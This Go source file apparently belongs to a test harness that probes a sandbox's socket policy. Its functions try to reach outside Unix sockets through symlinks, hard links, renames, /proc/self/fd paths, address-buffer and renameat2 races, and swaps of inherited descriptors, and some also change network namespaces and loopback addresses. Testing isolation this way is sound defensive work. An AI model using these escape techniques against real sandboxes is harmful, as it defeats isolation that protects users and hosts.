package main

import (
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Ways to a local socket outside: past whoever decides by its path.
var _ = add(map[string]attack{
	"unix-seqpacket": func(a []string) (string, error) { return connectUnix(unix.SOCK_SEQPACKET, a[0]) },
	"unix-symlink": func(a []string) (string, error) {
		return first(os.Symlink(a[1], a[0]), func() (string, error) { return connectUnix(unix.SOCK_STREAM, a[0]) })
	},
	"unix-hardlink": func(a []string) (string, error) {
		return first(os.Link(a[1], a[0]), func() (string, error) { return connectUnix(unix.SOCK_STREAM, a[0]) })
	},
	"unix-renamed": func(a []string) (string, error) {
		return first(os.Rename(a[1], a[0]), func() (string, error) { return connectUnix(unix.SOCK_STREAM, a[0]) })
	},
	"unix-replaced": unixReplaced,
	"unix-dirfd":    unixDirfd,
	"unix-race":     unixRace,
	"unix-swap":     unixSwap,
	"stdin-connect": stdinConnect,
	"stdin-race":    stdinRace,
	"new-address":   newAddress,
	"setns-own":     func([]string) (string, error) { return setnsOwn() },
})

// first goes on if the way was prepared.
func first(err error, then func() (string, error)) (string, error) {
	if err != nil {
		return "", err
	}
	return then()
}

// own listens on a local socket, takes what comes, and forgets it.
func own(path string) (fd int, err error) {
	if fd, err = unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0); err != nil {
		return -1, err
	}
	if err = unix.Bind(fd, &unix.SockaddrUnix{Name: path}); err == nil {
		err = unix.Listen(fd, 100)
	}
	go func() {
		for {
			c, _, err := unix.Accept(fd)
			if err != nil {
				return
			}
			_ = unix.Close(c)
		}
	}()
	return fd, err
}

// reached connects to a raw address, and reports whether the socket that answered is bound to a path outside.
func reached(address []byte, outside string) bool {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return false
	}
	defer unix.Close(fd)
	if _, err := raw(unix.SYS_CONNECT, uintptr(fd), at(&address[0]), uintptr(len(address))); err != nil {
		return false
	}
	peer, err := unix.Getpeername(fd)
	to, ok := peer.(*unix.SockaddrUnix)
	return err == nil && ok && to.Name == outside
}

func address(path string) []byte {
	b := make([]byte, 110)
	b[0] = unix.AF_UNIX
	copy(b[2:], path)
	return b
}

// unixReplaced puts a socket outside where one of its own was: unix-replaced OUTSIDE OWN.
func unixReplaced(a []string) (string, error) {
	fd, err := own(a[1])
	if err != nil {
		// Without sockets of its own the old name will do.
		return connectUnix(unix.SOCK_STREAM, a[0])
	}
	if !reached(address(a[1]), a[1]) {
		return "", refused("not even its own")
	}
	_ = unix.Close(fd)
	if err := os.Rename(a[0], a[1]); err != nil {
		return "", err
	}
	return connectUnix(unix.SOCK_STREAM, a[1])
}

// unixDirfd names a socket by way of an open directory: unix-dirfd PATH.
func unixDirfd(a []string) (string, error) {
	dir, err := unix.Open(filepath.Dir(a[0]), unix.O_PATH|unix.O_DIRECTORY, 0)
	if err != nil {
		return "", err
	}
	return connectUnix(unix.SOCK_STREAM, "/proc/self/fd/"+strconv.Itoa(dir)+"/"+filepath.Base(a[0]))
}

const raceFor = 1500 * time.Millisecond

// unixRace changes the address while the call that names it is decided over: unix-race OUTSIDE OWN.
func unixRace(a []string) (string, error) {
	fd, err := own(a[1])
	if err != nil {
		return connectUnix(unix.SOCK_STREAM, a[0])
	}
	defer unix.Close(fd)
	good, bad, shared := address(a[1]), address(a[0]), address(a[1])
	end := time.Now().Add(raceFor)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for time.Now().Before(end) {
			copy(shared, bad)
			copy(shared, good)
		}
	}()
	own := 0
	for time.Now().Before(end) {
		if reached(shared, a[0]) {
			return "", nil
		}
		if reached(good, a[1]) {
			own++
		}
	}
	<-done
	if own == 0 {
		return "", errors.New("its own socket was never reached, so nothing was tried")
	}
	return "", refused("in %v", raceFor)
}

// unixSwap exchanges a socket outside and one of its own while it connects to a path: unix-swap OUTSIDE OWN.
func unixSwap(a []string) (string, error) {
	fd, err := own(a[1])
	if err != nil {
		return connectUnix(unix.SOCK_STREAM, a[0])
	}
	defer unix.Close(fd)
	end := time.Now().Add(raceFor)
	done := make(chan error, 1)
	go func() {
		for time.Now().Before(end) {
			if err := unix.Renameat2(unix.AT_FDCWD, a[0], unix.AT_FDCWD, a[1], unix.RENAME_EXCHANGE); err != nil {
				done <- err
				return
			}
			time.Sleep(time.Millisecond) // jphost ends a call that makes more of it than it can watch
		}
		done <- nil
	}()
	here := address(a[1])
	for time.Now().Before(end) {
		if reached(here, a[0]) {
			return "", nil
		}
	}
	if err := <-done; err != nil {
		return "", err
	}
	return "", refused("in %v", raceFor)
}

// stdinConnect connects a socket that was made outside: stdin-connect PORT.
func stdinConnect(a []string) (string, error) {
	to, err := inet(a[0])
	if err == nil {
		err = unix.Connect(0, to)
	}
	if err == nil {
		_, err = unix.Write(0, []byte("# owned\n"))
	}
	return "", err
}

// stdinRace puts a socket that was made outside in the place of one of its own, while a call on it is decided over:
// stdin-race PORT.
func stdinRace(a []string) (string, error) {
	to, err := inet(a[0])
	if err != nil {
		return "", err
	}
	outside, err := unix.FcntlInt(0, unix.F_DUPFD, 20)
	if err != nil {
		return "", err
	}
	const place = 30
	end := time.Now().Add(raceFor)
	go func() {
		for time.Now().Before(end) {
			if s, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0); err == nil {
				_ = unix.Dup3(s, place, 0)
				_ = unix.Close(s)
			}
			_ = unix.Dup3(outside, place, 0)
		}
	}()
	for time.Now().Before(end) {
		_ = unix.Connect(place, to)
		if _, err := unix.Write(outside, []byte("# owned\n")); err == nil {
			return "", nil
		}
	}
	return "", refused("in %v", raceFor)
}

// newAddress gives the loopback an address. The control, which is given a word, does it in a network of its own, where it may.
func newAddress(a []string) (string, error) {
	if len(a) > 0 {
		part := exec.Command("/proc/self/exe", "part-new-address")
		part.SysProcAttr = &syscall.SysProcAttr{
			Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNET,
			UidMappings: []syscall.SysProcIDMap{{HostID: os.Getuid(), Size: 1}},
		}
		return "", part.Run()
	}
	return "", loopbackAddress()
}

func init() {
	// part-serve PATH answers until it is killed, and says when it begins to.
	parts["part-serve"] = func(a []string) int {
		if _, err := own(a[0]); err != nil {
			return 1
		}
		_, _ = os.Stdout.WriteString("x")
		time.Sleep(time.Minute)
		return 0
	}
	parts["part-new-address"] = func([]string) int {
		if loopbackAddress() != nil {
			return 1
		}
		return 0
	}
}

func loopbackAddress() error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	// struct nlmsghdr, struct ifaddrmsg for the interface 1, and IFA_LOCAL with 127.0.0.77.
	message := []byte{
		32, 0, 0, 0, unix.RTM_NEWADDR, 0, unix.NLM_F_REQUEST | unix.NLM_F_ACK, 4, 1, 0, 0, 0, 0, 0, 0, 0,
		unix.AF_INET, 32, 0, 0, 1, 0, 0, 0, 8, 0, unix.IFA_LOCAL, 0, 127, 0, 0, 77,
	}
	if err := unix.Sendto(fd, message, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	answer := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, answer, 0)
	if err != nil || n < 20 {
		return errors.Join(err, errors.New("no answer"))
	}
	if code := int32(uint32(answer[16]) | uint32(answer[17])<<8 | uint32(answer[18])<<16 | uint32(answer[19])<<24); code != 0 {
		return unix.Errno(-code)
	}
	return nil
}

// setnsOwn enters the network namespace of process 1, which under namespaces is the one that it is in, as the first
// step to others.
func setnsOwn() (string, error) {
	fd, err := unix.Open("/proc/self/ns/net", unix.O_RDONLY, 0)
	if err != nil {
		return "", err
	}
	return "", unix.Setns(fd, unix.CLONE_NEWNET)
}
